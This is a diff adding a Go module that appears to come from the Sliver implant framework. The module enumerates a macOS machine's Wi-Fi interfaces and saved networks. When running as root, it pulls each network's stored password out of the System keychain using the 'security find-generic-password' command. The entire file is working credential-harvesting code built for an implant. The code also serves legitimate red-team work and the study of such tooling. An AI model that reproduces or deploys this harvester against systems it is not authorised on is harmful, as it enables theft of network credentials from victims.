@@ -0,0 +1,115 @@
+package wifi
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bufio"
+	"bytes"
+	"os"
+	"os/exec"
+	"strings"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+)
+
+const (
+	systemKeychain = "/Library/Keychains/System.keychain"
+)
+
+// profiles - Preferred networks are listed with networksetup, keys are read
+// from the system keychain which requires root
+func profiles() ([]Profile, error) {
+	ifaces, err := wirelessInterfaces()
+	if err != nil {
+		return nil, err
+	}
+	results := []Profile{}
+	for _, iface := range ifaces {
+		output, err := exec.Command("networksetup", "-listpreferredwirelessnetworks", iface).Output()
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("[wifi] failed to list networks of %s: %s", iface, err)
+			// {{end}}
+			continue
+		}
+		scanner := bufio.NewScanner(bytes.NewReader(output))
+		for scanner.Scan() {
+			line := scanner.Text()
+			// Networks are tab indented below a "Preferred networks on en0:" header
+			if !strings.HasPrefix(line, "\t") {
+				continue
+			}
+			ssid := strings.TrimSpace(line)
+			if ssid == "" {
+				continue
+			}
+			results = append(results, Profile{
+				Interface: iface,
+				SSID:      ssid,
+				Key:       keychainPassword(ssid),
+			})
+		}
+	}
+	if len(results) == 0 {
+		return nil, ErrNoWireless
+	}
+	return results, nil
+}
+
+// wirelessInterfaces - Devices of the "Wi-Fi" (or older "AirPort") hardware ports
+func wirelessInterfaces() ([]string, error) {
+	output, err := exec.Command("networksetup", "-listallhardwareports").Output()
+	if err != nil {
+		return nil, err
+	}
+	ifaces := []string{}
+	wireless := false
+	scanner := bufio.NewScanner(bytes.NewReader(output))
+	for scanner.Scan() {
+		line := strings.TrimSpace(scanner.Text())
+		if strings.HasPrefix(line, "Hardware Port:") {
+			port := strings.TrimSpace(strings.TrimPrefix(line, "Hardware Port:"))
+			wireless = port == "Wi-Fi" || port == "AirPort"
+		} else if wireless && strings.HasPrefix(line, "Device:") {
+			ifaces = append(ifaces, strings.TrimSpace(strings.TrimPrefix(line, "Device:")))
+			wireless = false
+		}
+	}
+	if len(ifaces) == 0 {
+		return nil, ErrNoWireless
+	}
+	return ifaces, nil
+}
+
+func keychainPassword(ssid string) string {
+	if os.Geteuid() != 0 {
+		return ""
+	}
+	output, err := exec.Command("security", "find-generic-password",
+		"-D", "AirPort network password", "-a", ssid, "-w", systemKeychain).Output()
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("[wifi] failed to read key of %s: %s", ssid, err)
+		// {{end}}
+		return ""
+	}
+	return strings.TrimRight(string(output), "\r\n")
+}